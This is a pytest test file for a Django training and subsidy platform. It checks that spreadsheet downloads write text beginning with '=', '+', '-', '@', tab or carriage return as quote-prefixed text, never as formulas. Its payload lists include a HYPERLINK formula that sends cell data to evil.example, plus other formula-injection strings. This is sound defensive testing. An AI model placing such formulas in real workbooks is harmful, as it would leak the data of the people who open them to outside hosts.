"""Text that a spreadsheet would take for a formula reaches every workbook the platform writes as text.

Names, bank details, team names and titles are typed by workers and liaisons. Each case builds the rows
of one download, then rewrites every free-text column of the project's tables to begin with one of the
characters Excel starts a formula with (``=``, ``+``, ``-``, ``@``, tab, carriage return), downloads the
file and reads it back: no formula anywhere, every such text an inline string marked as text (Excel's
own mark for text typed after an apostrophe, so that editing the cell keeps it text), and unchanged.
"""

import io
import itertools
import zipfile

import pytest
from django.apps import apps
from django.db import IntegrityError, models, transaction
from django.db.models.functions import Concat, Length
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from training.models import Enrollment
from training.subsidies.models import Kind
from training.subsidies.tests.factories import approved_batch, claim, policy
from training.tests.factories import open_class
from zhangwan.registry.tests.factories import WorkerFactory

from .. import workbook
from .test_exports import PAGES, Case

PROJECT_APPS = ("zhangwan", "training", "competitions", "certification", "masters")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"OK\")&", "+1+1", "-2+3", "@SUM(A1)", "\t=1+", "\r=1+"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def poison_every_text_column():
    """Prefix every free-text column of every project table with a formula (keeping values unique); columns
    whose format the database checks (identity numbers, bank accounts) are left alone."""
    prefixes = itertools.cycle(HOSTILE)
    for model in apps.get_models():
        if not model.__module__.startswith(PROJECT_APPS) or model._meta.proxy or "historical" in model.__name__.lower():
            continue
        for field in model._meta.concrete_fields:
            if (not isinstance(field, models.CharField | models.TextField) or field.choices
                    or isinstance(field, models.SlugField) or field.name == "password"):
                continue
            prefix = next(prefixes)
            rows = model._base_manager.all()
            if field.max_length:
                rows = rows.annotate(_length=Length(field.name)).filter(_length__lte=field.max_length - len(prefix))
            try:
                with transaction.atomic():
                    rows.update(**{field.name: Concat(models.Value(prefix), field.name, output_field=field)})
            except IntegrityError:
                pass  # a column whose format the database checks is not free text


def hostile_cells(data: bytes):
    """Every cell of the file; asserts no sheet holds a formula. Returns the cells whose text starts a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    found.append(cell)
    return found


def assert_kept_as_text(data: bytes):
    cells = hostile_cells(data)
    assert cells, "the hostile text reached the file"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


# Downloads that are not list pages --------------------------------------------------------------

def bank_file(users, org, other):
    worker = WorkerFactory(employer=org, bank_name="中国工商银行十堰分行", bank_account="6222020000000001")
    batch = approved_batch([claim(policy=policy(Kind.SKILL), worker=worker)], made_by=users["finance_officer"],
                           approved_by=users["auditor"])
    return Case(reverse("subsidies:batch_bank_file", args=[batch.pk]), "finance_officer", [])


def liaison_enrollments(users, org, other):
    Enrollment.objects.create(worker=WorkerFactory(employer=org), training_class=open_class(), status="confirmed",
                              channel="liaison")
    return Case(reverse("training:liaison_enrollments") + "?format=xlsx", "liaison", [])


DOWNLOADS = [*PAGES, bank_file, liaison_enrollments]


@pytest.mark.parametrize("page", DOWNLOADS, ids=[p.__name__ for p in DOWNLOADS])
def test_text_that_starts_a_formula_is_written_as_text(client, role_users, organization, other_organization, page):
    case = page(role_users, organization, other_organization)
    poison_every_text_column()
    client.force_login(role_users[case.role])
    response = client.get(case.url)
    assert response.status_code == 200
    assert_kept_as_text(response.content)


def test_the_import_template_holds_no_formula(client, liaison):
    client.force_login(liaison)
    response = client.get(reverse("registry:roster_template"))
    assert response.status_code == 200
    hostile_cells(response.content)


def test_the_annual_report_writes_text_that_starts_a_formula_as_text(tmp_path, role_users, organization,
                                                                     other_organization):
    from .test_exports import certificates, claims, class_attendance, classes, event_results, nominations, talk_orders

    for page in (classes, class_attendance, claims, event_results, certificates, nominations, talk_orders):
        page(role_users, organization, other_organization)
    poison_every_text_column()
    cells = []
    for year in range(2022, timezone.localdate().year + 2):
        path = tmp_path / f"{year}.xlsx"
        workbook.build(path, year)
        cells += hostile_cells(path.read_bytes())
    assert len({cell.parent.title for cell in cells}) >= 5, "the hostile text reached the report's sheets"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.coordinate, cell.value)


def test_text_is_read_back_unchanged():
    from zhangwan.excel import workbook_bytes

    values = ["=HYPERLINK(\"http://evil.example\",\"OK\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "=",
              "plain", "-"]
    data = workbook_bytes([("Sheet", ["Value"], [[value] for value in values])])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.value for (cell,) in sheet.iter_rows(min_row=3)] == values
    assert all(cell.data_type == "s" for (cell,) in sheet.iter_rows(min_row=3))
